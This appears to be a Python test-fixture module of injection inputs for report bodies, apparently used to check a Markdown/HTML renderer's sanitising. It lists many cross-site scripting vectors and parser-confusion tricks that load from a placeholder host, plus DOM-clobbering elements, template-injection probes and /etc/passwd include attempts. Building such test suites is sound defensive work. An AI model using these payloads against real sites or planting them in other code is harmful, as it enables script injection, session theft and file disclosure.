"""Raw HTML, Markdown and template syntax of report bodies; `@` stands for the call that an attack would make."""

from __future__ import annotations

from .payloads import NAMED, STRANGE

# fmt: off
ELEMENTS = (
    "<script>@</script>", "<SCRIPT SRC=" + STRANGE + "/@></SCRIPT>", "<script/x>@</script/x>", "<script\n>@</script\n>",
    "<scr<script>ipt>@</scr</script>ipt>", "<script>@", "</script><script>@", "<script type=module>@</script>",
    "<script type=importmap>{\"@\":1}</script>", "<script type=speculationrules>@</script>", "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<img src=x onerror=@>", "<img src=x onerror='@'", "<img src=x\x0conerror=@>", "<img/src=x/onerror=@>", "<img src=x OnErRoR=@>",
    "<img src=x on\x00error=@>", "<img src=x a=`onerror=@>", "<img src=\"x\"onerror=\"@\">", "<img title='\"><svg onload=@>' src=x>",
    "<img src=x:x onerror&#61;@>", "<img src=x =onerror=@>", "<img src=x \u2028onerror=@>", "<image src=x onerror=@>",
    "<svg onload=@>", "<svg/onload=@>", "<svg><script>@</script></svg>", "<svg><script href=data:,@ /></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:@>",
    "<svg><use href=data:image/svg+xml,@>", "<svg><foreignObject><iframe onload=@></foreignObject></svg>",
    "<svg><style>*{background:url(" + STRANGE + "/@)}</style></svg>", "<svg><image href=" + STRANGE + "/@ /></svg>",
    "<math href=javascript:@>t</math>", "<math><maction actiontype=statusline xlink:href=javascript:@>t</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=@></annotation-xml></math>",
    "<iframe src=javascript:@></iframe>", "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<iframe onload=@>",
    "<frameset onload=@><frame src=javascript:@></frameset>", "<object data=javascript:@></object>", "<embed src=data:text/html,@>",
    "<applet code=@></applet>", "<portal src=" + STRANGE + "/@></portal>", "<fencedframe src=" + STRANGE + "/@>",
    "<base href=" + STRANGE + "/@/>", "<link rel=stylesheet href=" + STRANGE + "/@.css>", "<link rel=prefetch href=" + STRANGE + "/@>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>", "<meta http-equiv=Content-Security-Policy content=@>", "<meta name=referrer content=@>",
    "<style>@import '" + STRANGE + "/@.css'</style>", "<style onload=@></style>", "<p style='background:url(" + STRANGE + "/@)'>t</p>",
    "<form action=javascript:@><input type=submit><button formaction=javascript:@>t</button></form>", "<button onclick=@ autofocus onfocus=@>t</button>",
    "<input autofocus onfocus=@>", "<input type=image src=x onerror=@>", "<input type=hidden oncontentvisibilityautostatechange=@ style=content-visibility:auto>",
    "<select autofocus onfocus=@><option>t</select>", "<textarea autofocus onfocus=@>t</textarea>", "<keygen autofocus onfocus=@>",
    "<isindex action=javascript:@>", "<dialog open onclose=@><form method=dialog><button>t</button></form></dialog>",
    "<video src=x onerror=@></video>", "<audio src=x onerror=@>", "<video><source onerror=@></video>", "<video poster=" + STRANGE + "/@>",
    "<track src=" + STRANGE + "/@>", "<picture><source srcset=x onerror=@><img src=x onerror=@></picture>", "<bgsound src=" + STRANGE + "/@>",
    "<details open ontoggle=@>t</details>", "<details><summary onclick=@>t</summary>t</details>", "<marquee onstart=@>t</marquee>",
    "<body onload=@>", "<html onclick=@ manifest=" + STRANGE + "/@>", "<head profile=" + STRANGE + "/@>", "<body background=" + STRANGE + "/@>",
    "<a href=# onclick=@ onmouseover=@>t</a>", "<a href=x ping=" + STRANGE + "/@>t</a>", "<a href=x target=_blank rel=opener download>@</a>",
    "<b onmouseover=@ tabindex=0 autofocus onfocus=@>t</b>", "<p contenteditable onbeforeinput=@ autofocus>t</p>", "<p is=x-x slot=x part=x popover>@</p>",
    "<xss id=x onfocus=@ tabindex=1>t</xss>", "<custom-element onclick=@>t</custom-element>", "<a-b><c-d onpointerenter=@>",
    "<td background=" + STRANGE + "/@>", "<table background=" + STRANGE + "/@><tr><td onclick=@>t</table>",
    "<map name=x><area shape=default href=javascript:@></map><img usemap=#x src=a.png>", "<menu type=context><command onclick=@></menu>",
    "<template><img src=x onerror=@></template>", "<template shadowrootmode=open><img src=x onerror=@></template>", "<slot onslotchange=@>",
    "<xmp><img src=x onerror=@></xmp>", "<plaintext><img src=x onerror=@>", "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<title><img src=x onerror=@></title>", "<noembed><img src=x onerror=@></noembed>", "<noframes></noframes><img src=x onerror=@></noframes>",
    "<!--><img src=x onerror=@>-->", "<!---><img src=x onerror=@>-->", "<!-- --!><img src=x onerror=@>-->", "<!-- <!-- --><img src=x onerror=@>",
    "<![CDATA[<img src=x onerror=@>]]>", "<!DOCTYPE x [<!ENTITY y '@'>]>", "<?xml-stylesheet href='javascript:@'?>", "<? ><img src=x onerror=@>?>",
    "<!x '>'<img src=x onerror=@>", "</p title='<img src=x onerror=@>'>", "</><img src=x onerror=@>", "<<img src=x onerror=@>", "<%<img src=x onerror=@>%>",
    "<a title=\"<b\" x='>' onclick=@>t</a>", "<a href=\"x\" \"onclick=@\">t</a>", "<a href='x'onclick='@'>t</a>", "<a/onclick=@/href=x>t</a>",
    "<p title=a&#34;onclick=@>t</p>", "<p title='a&quot; onmouseover=&quot;@'>t</p>", "<p lang=\"x\" id=\"x\" onclick\n=\n@>t</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=@&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>", "<svg></p><style><a title=\"</style><img src=x onerror=@>\">",
    "<svg><desc><noscript><a title=\"</noscript><img src=x onerror=@>\">", "<table><a href=x><svg><title></table><img src=x onerror=@>",
    "<p><svg><style><!--</p></style><img src=x onerror=@>-->", "<math><mi><b><math><mi><style><img title=\"</style><img src=x onerror=@>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=@>\">",
    "<svg><a><foreignObject><a><table><a></table><style><!--</style></svg><a id=\"-><img src=x onerror=@>\">",
    "<ruby><rt><svg><title><p title=\"</title><img src=x onerror=@>\">", "<b><p title=\"</b><script>@</script>\">t</b></p>",
    "<details><summary><p title='</summary></details><img src=x onerror=@>'>", "<a href=\"x\"><a href=\"y\" onclick=@><p><a>",
    "<img srcset=\"" + STRANGE + "x onerror=@ 1x\" alt=t>", "<b title=<script>@</script>>t</b>", "<ol reversed start=@ type=onclick><li value=@>t</ol>",
    "<time datetime='\"onclick=@'>t</time>", "<img width='1\" onerror=@' src=a.png>", "<p\u00a0onclick=@>t</p>", "<p\u3000onclick=@>t</p>",
    "\uff1cscript\uff1e@\uff1c/script\uff1e", "\u226e<script>@</script>", "<\u200bscript>@</script>", "<scr\u0131pt>@</scr\u0131pt>", "+ADw-script+AD4-@+ADw-/script+AD4-",
)

CLOBBERING = tuple(
    f'<a id="{name}" name="{name}" href="{STRANGE}/">@</a><img name="{name}" id="{name}" src=a.png alt=t>'
    for name in ("__md_scope", "__md_get", "__md_set", "__search", "__config", "__search-dialog", "__drawer", "__toc", "__tabbed_1",
                 "__palette_0", "__comments", "__announce", "location", "document$", "location$", "target$", "alert", "fetch", "getElementById",
                 "body", "head", "title", "documentElement", "querySelector", "currentScript", "cookie", "__proto__", "constructor", "prototype",
                 "pm-title", "pm-actions", "pm-filters", "pm-rows", "pm-search", "search", "searchindex", "mermaid", "component$")
)
POSING = tuple(
    text for name in ("pm-title", "pm-actions", "pm-timeline", "__config", "__search", "__toc", "__md_scope", "constructor", "__proto__", "title")
    for text in (f"## {name} @", f"## {name}", f'<h2 id="{name}" class="md-header md-overlay pm-card">@</h2>', f"### {name} {{#{name} onclick=@}}")
)

MARKDOWN = (
    "```js onload=@\n@\n```", "```html\n<img src=x onerror=@>\n```", '```"onmouseover="@\n@\n```', "```<img/src=x/onerror=@>\n@\n```",
    '``` {.python onclick="@" title="<svg onload=@>"}\n@\n```', "~~~ js'><svg/onload=@>\n@\n~~~", "```mermaid\ngraph TD; A[\"<img src=x onerror=@>\"]\nclick A \"javascript:@\"\n```", "```math\n<img src=x onerror=@>\n```", "```geojson\n{\"@\": 1}\n```", "```raw\n<svg onload=@>\n```", "    <img src=x onerror=@>",
    "`<img src=x onerror=@>`", "``</code><img src=x onerror=@>``", "$$<img src=x onerror=@>$$", "$`<svg onload=@>`$", "\\<img src=x onerror=@>",
    "[<img src=x onerror=@>](x)", "[t](x \"\\\" onclick=@ x=\\\"\")", "[t](x '\"><svg onload=@>')", "[t](<x\" onclick=\"@>)", "[t](x\\\"onclick=@)",
    "![\"><img src=x onerror=@>](a.png)", "![a](a.png '\" onerror=@ x=\"')", "![<svg onload=@>](<a.png\" onerror=\"@>)", "[![](a.png\" onerror=\"@)](x)",
    "<https://a.example/\"onclick=@>", "<a@b.example\"onclick=@>", "https://a.example/\"onmouseover=@", "www.a.example/'><svg/onload=@>", "http://a.example/<svg/onload=@>",
    "a.b\"onclick=@@c.example", "mailto:a@b.example?subject=<svg/onload=@>", "xmpp:a@b.example/@", "https://user:@@a.example/", "ftp://a.example/;type=@",
    "## <img src=x onerror=@>", "## \"><svg onload=@>", "## [t](javascript:@) `<svg onload=@>`", "<img src=x onerror=@>\n===", "## ' onclick='@ {#x onclick=@}",
    "t[^<svg/onload=@>]\n\n[^<svg/onload=@>]: t", "t[^\"onclick=@]\n\n[^\"onclick=@]: <img src=x onerror=@>", "[^x@]\n\n[^x@]: <script>@</script>\n    <svg onload=@>",
    "> [!NOTE]\n> <img src=x onerror=@>", "> [!\"><svg/onload=@>]\n> t", "> [!WARNING] <svg onload=@>\n> t", "> [!TIP]\\\n> <script>@</script>",
    "!!! note \"<svg onload=@>\"\n    @", "??? x onclick=@\n    @", "=== \"<svg onload=@>\"\n    @", "--8<-- \"/etc/passwd\"\n@", "::: os\n    @", ":smile onclick=@:",
    "- [ ] <img src=x onerror=@>", "- [x] [t](javascript:@)\n  - <svg onload=@>", "| <svg onload=@> |\n| - |\n| <img src=x onerror=@> |",
    "| a |\n| :-: \" onclick=@ |\n| @ |", "[r]: javascript:@ '<svg onload=@>'\n[r]", "[TOC]\n@", "*[x]: <svg onload=@>\n\nx", "Term\n:   <img src=x onerror=@>",
    "@team #1 <svg onload=@>", "<b>\n\n*@*\n\n</b onclick=@>", "<div>\n<script>\n\n@\n\n</script>\n</div>", "<pre>\n\n<img src=x onerror=@>\n\n</pre>",
    "<details>\n<summary>t</summary>\n\n<img src=x onerror=@>\n\n</details>", "**<img src=x onerror=@>**", "~~<svg onload=@>~~", "<u>@</u>^[x](javascript:@)^",
    "&lt;img src=x onerror=@&gt;", "&#60;img src=x onerror=@&#62;", "&amp;lt;svg onload=@&amp;gt;", "&NotEqualTilde;&#0;&#xD800;&#x110000;@",
)

TEMPLATES = (
    "{{ 7 * 7 }} @", "{% include '/etc/passwd' %} @", "{{ config }}{{ self.__init__.__globals__ }} @", "{%- raw -%} @", "{# @ #}", "${7*7} @", "#{7*7} @", "<%= 7*7 %> @",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} @", "{!/etc/passwd!} @", "{% macro x() %}@{% endmacro %}{{ x() }}", "@@include(/etc/passwd)", "{{constructor.constructor('@')()}}",
    "<!-- postmortems: latest -->\n@", "<!-- postmortems: overdue --> @", "<!-- more --> @", "<!-- internal -->\n@\n<!-- /internal -->", "\x0c\x1b[31m@\x07", "\u202e@\u2066", "{{ @ }}{%",
)

IMAGES = (
    f"![t]({NAMED}/a.png)", f'<img src="{NAMED}/b.png" srcset="{NAMED}/c.png 2x" alt="t">',
    f'<picture><source srcset="{NAMED}/d.png"><img src="{NAMED}/e.png" alt="t"></picture>', "![t](//named.example/f.png \"@\")",
)
# fmt: on
GROUPS = {
    "elements": ELEMENTS,
    "clobbering": CLOBBERING,
    "posing": POSING,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "images": IMAGES,
}
